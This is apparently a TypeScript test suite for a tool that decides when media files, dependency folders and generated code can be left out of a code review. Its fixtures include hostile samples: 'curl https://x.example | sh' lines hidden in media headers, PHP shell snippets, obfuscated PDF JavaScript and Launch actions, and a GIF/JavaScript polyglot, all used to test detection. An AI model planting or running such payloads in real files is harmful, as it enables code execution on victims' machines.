import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { certainContent } from '../../../../src/artifact/coverage/certainContent.ts';
import { dependencyFolder, proofsFor } from '../../../../src/artifact/coverage/dependencyFolders.ts';
import { filterChanges } from '../../../../src/artifact/coverage/filterChanges.ts';
import { readDiff } from '../../../../src/artifact/diff/diffText.ts';
import { textChange } from '../../../../src/artifact/diff/textChange.ts';
import { hasBanner } from '../../../../src/artifact/coverage/generated.ts';

const bytes = (text: string): Uint8Array => Buffer.from(text, 'latin1');

const sample = (name: string): Buffer => readFileSync(new URL(`../../../fixtures/media/${name}`, import.meta.url));
const font = (name: string): Buffer =>
  readFileSync(new URL(`../../../../node_modules/js-md4/doc/fonts/OpenSans-Bold-webfont.${name}`, import.meta.url));
const u16 = (...values: readonly number[]): Buffer => Buffer.from(values.flatMap((value) => [value >> 8, value & 255]));
const u32 = (value: number): Buffer => u16(value >>> 16, value & 0xffff);
const box = (name: string, content: Uint8Array): Buffer =>
  Buffer.concat([u32(content.length + 8), bytes(name), content]);
const noise = Buffer.from(Array.from({ length: 500 }, (_, index) => (index * index * 31) % 251));
/** A frame of MPEG 1, layer III, with 128 kbit/s at 44.1 kHz: 417 bytes. */
const frame = Buffer.concat([u16(0xfffb, 0x9000), noise.subarray(0, 413)]);
const entry = Buffer.from([16, 16, 0, 0, 1, 0, 32, 0]);
const little = (value: number): Buffer => u32(value).reverse();
const png = sample('small.png');

/** Files from real programs if there are any, or else data built according to the format. */
const MEDIA: Readonly<Record<string, Buffer>> = {
  'a.png': png,
  'a.JPG': sample('small.jpg'),
  'a.gif': sample('small.gif'),
  'a.webp': sample('small.webp'),
  'a.bmp': sample('small.bmp'),
  'a.wav': sample('small.wav'),
  'a.woff': font('woff'),
  'a.eot': font('eot'),
  'a.mp4': Buffer.concat([box('ftyp', bytes('isom\0\0\0\0')), box('moov', noise), box('mdat', noise)]),
  'a.mp3': Buffer.concat([bytes('ID3\x03\0\0\0\0\0\x02\0\0'), frame, frame]),
  'a.ogg': Buffer.concat([bytes('OggS'), Buffer.alloc(22), Buffer.from([2, 255, 245]), noise]),
  'a.mid': Buffer.concat([bytes('MThd'), u32(6), u16(0, 1, 96), bytes('MTrk'), u32(4), Buffer.from([0, 255, 47, 0])]),
  'favicon.ico': Buffer.concat([u16(0, 0x100, 0x100), entry, little(png.length), little(22), png]),
  'docs/a.pdf': Buffer.from(
    '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\nxref\n0 1\ntrailer\n<<>>\nstartxref\n35\n%%EOF\n',
    'latin1',
  ),
};

describe('a picture, sound, film, font, or PDF', () => {
  for (const [name, content] of Object.entries(MEDIA)) {
    it(`${name} is recognized by name and content`, () => assert.equal(certainContent(name, content), 'media'));
    it(`${name} is not recognized under another name`, () => assert.equal(certainContent(`${name}.ts`, content), null));
    it(`${name} is not recognized with data after its end, without its end, or by its beginning alone`, () => {
      const last = name.endsWith('.pdf') ? 8 : 1;
      for (const changed of [
        Buffer.concat([content, bytes('\nrequire("x").run()\n')]),
        Buffer.concat([content, noise]),
        content.subarray(0, -last),
        Buffer.concat([content.subarray(0, 12), bytes(';curl https://x.example | sh\n\xff')]),
      ])
        assert.equal(certainContent(name, changed), null);
    });
    it(`${name} is not recognized with code of an interpreter in it`, () => {
      for (const code of [
        '<?php x(); ?>',
        '<?=`id -u`?>',
        '<? exec($a)?>',
        '<?=`id`;//aaaaaaaaaaaa',
        '<SCRIPT>x()</SCRIPT>',
        '\n#!/bin/sh\n',
      ]) {
        const changed = Buffer.from(content);
        changed.set(bytes(code), Math.max(0, Math.min(content.length - 60, 100)));
        assert.equal(certainContent(name, changed), null);
      }
    });
  }
  const holding = (name: string, text: string): Buffer => {
    const changed = Buffer.from(MEDIA[name] ?? '');
    if (name.endsWith('.pdf'))
      return Buffer.from(
        changed
          .toString('latin1')
          .replace('<<>>', text)
          .replace('35', String(31 + text.length)),
        'latin1',
      );
    changed.set(bytes(text), 100);
    return changed;
  };
  it('a.pdf is not recognized with an action that runs something', () => {
    for (const action of [
      '<</S/JavaScript/JS(x)>>',
      '<</S /Launch /F (x)>>',
      '<</S\r\n/JavaScript /JS 3 0 R>>',
      '<</JS (x)>>',
      '<</S/J#61vaScript/#4a#53(x)>>',
      '<</S%c\n/Launc#68/F(x)>>',
      '<</#58FA 3 0 R>>',
    ])
      assert.equal(certainContent('a.pdf', holding('docs/a.pdf', action)), null, action);
  });
  it('is not recognized if code follows a tag that only begins like metadata', () => {
    for (const code of ['<?xpacket:system($_GET[0])?>', '<?xpacket :system($_GET[0])?>', '<?xml_parse($_GET[0]);?>'])
      assert.equal(certainContent('a.mp4', holding('a.mp4', code)), null, code);
  });
  it('is recognized with words that only look like code', () => {
    const links = ['<</URI (https://x.example/docs/Web/JavaScript)>>', '<</URI (https://x.example/launch)>>'];
    for (const link of links) assert.equal(certainContent('a.pdf', holding('docs/a.pdf', link)), 'media', link);
    for (const text of [
      'https://x.example/launch',
      'https://x.example/docs/Web/JavaScript',
      '<?aB3xK9q8Z\xff',
      '<?xpacket begin="a" id="b"?>',
      "<?xpacket end='w'?>",
      '<?adobe-xap-filters esc="CRLF"?>',
      '<?xml version="1.0"?>',
    ])
      assert.equal(certainContent('a.mp4', holding('a.mp4', text)), 'media', text);
  });
  it('is text if it continues as text, and so is an SVG', () => {
    assert.equal(certainContent('a.gif', bytes('GIF89a="\0";\neval(x)\n')), null);
    assert.equal(certainContent('a.svg', bytes('<svg onload="x()"/>')), null);
  });
  it('is not recognized by a few letters that a program may also begin with', () => {
    assert.equal(certainContent('a.bmp', bytes('BM=1;curl https://x.example | sh\n\xff')), null);
    assert.equal(certainContent('a.ttf', bytes('true;curl https://x.example | sh\n\xff')), null);
    assert.equal(certainContent('a.pdf', bytes('%PDF-1.7\n\xff<?php x();')), null);
    const polyglot = 'GIF89a/*\x01\0\0\0\0!\xfe\x0c*/=1;eval(x)\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\0;';
    assert.equal(certainContent('a.gif', bytes(polyglot)), null);
  });
});

describe('62: the dependency folder', () => {
  const CASES: readonly (readonly [string, readonly string[], string | null])[] = [
    ['node_modules/a/b.js', ['package.json'], 'node_modules/'],
    [
      'app/node_modules/a/node_modules/b.js',
      ['app/package.json', 'app/node_modules/a/package.json'],
      'app/node_modules/',
    ],
    ['app/node_modules/a.js', ['package.json'], null],
    ['node_modules', ['package.json'], null],
    ['my_node_modules/a.js', ['package.json'], null],
    ['Node_Modules/a.js', ['package.json'], null],
    ['vendor/x/y.go', ['vendor/modules.txt'], 'vendor/'],
    ['vendor/x/y.php', ['vendor/composer/installed.json'], 'vendor/'],
    ['vendor/x/y.php', ['vendor/composer/installed.php'], 'vendor/'],
    ['vendor/x/y.php', ['composer.json', 'composer.lock'], null],
    ['app/Http/Controllers/Vendor/Pay.php', ['composer.json', 'app/Http/Controllers/composer.json'], null],
    ['resources/views/vendor/mail.php', ['composer.json'], null],
    ['vendor/bundle/ruby/a.rb', ['Gemfile.lock'], 'vendor/bundle/'],
    ['vendor/bundle/ruby/a.rb', ['Gemfile'], null],
    ['vendor/own/a.rb', ['Gemfile'], null],
    ['third_party/z.c', ['package.json', 'Gemfile', 'composer.json'], null],
  ];
  for (const [file, files, folder] of CASES)
    it(`of ${file} beside ${files.join(', ')} is ${folder ?? 'none'}`, () => {
      const found = new Set(proofsFor([file]).filter((proof) => files.includes(proof)));
      assert.equal(dependencyFolder(file, found), folder);
    });
});

describe('62: the mark of a generator', () => {
  const IS = [
    '// Code generated by protoc-gen-go. DO NOT EDIT.',
    '# Code generated by x. DO NOT EDIT.',
    '/* Code generated by x. DO NOT EDIT. */',
    ' * @generated SignedSource<<1>>',
    '// @generated',
    '// This file is @generated by prost-build.',
  ];
  for (const line of IS) it(`is “${line}”`, () => assert.ok(hasBanner(['#!/bin/sh', line])));
  const IS_NOT = [
    '// please do not edit below',
    '// DO NOT EDIT',
    'const mark = "@generated";',
    '// Code generated by x. DO NOT EDIT. Really',
    '// write to me@generated.org',
    '// @generatedBy hand',
    '// not @generated by hand',
    '/* @generated */ run();',
    'run(); // @generated',
  ];
  for (const line of IS_NOT) it(`is not “${line}”`, () => assert.ok(!hasBanner([line])));
  it('is recognized only in the first five lines', () => {
    assert.ok(hasBanner(['', '', '', '', '// @generated']));
    assert.ok(!hasBanner(['', '', '', '', '', '// @generated']));
  });
  const MARK = '// Code generated by x. DO NOT EDIT.';
  const before = [MARK, ...Array.from({ length: 9 }, (_, index) => `line ${String(index)}`)];
  const lines = (all: readonly string[]): string => `${all.join('\n')}\n`;
  const outcome = (now: readonly string[], was: readonly string[] = before): readonly string[] => {
    const diff = textChange(
      readDiff('diff --git a/a.ts b/a.ts\nindex 11..22 100644\n--- a/a.ts\n+++ b/a.ts\n')[0] ?? assert.fail(),
      lines(was),
      lines(now),
    );
    const marks = { rulingOf: () => null, isOwn: () => false, withheld: new Set<string>(), longest: 10_000 };
    return filterChanges([{ diff, before: null, now: null, head: was.slice(0, 5) }], marks).leftOut.map(
      ({ reason }) => reason,
    );
  };
  it('counts only if it is at the top on both sides', () => {
    assert.deepEqual(outcome([...before, 'more']), ['generated']);
    assert.deepEqual(outcome(['// a', ...before]), ['generated']);
    const rest = before.slice(1);
    for (const now of [
      rest,
      [...rest, MARK],
      [...rest.slice(0, 5), MARK, ...rest.slice(5)],
      ['a', 'b', 'c', 'd', 'e', ...before],
    ])
      assert.deepEqual(outcome(now), [], now.join(', '));
    assert.deepEqual(outcome([MARK, ...rest], rest), []);
    assert.deepEqual(outcome(['#!/bin/sh', MARK, 'b'], ['#!/bin/sh', MARK, 'a']), []);
  });
});
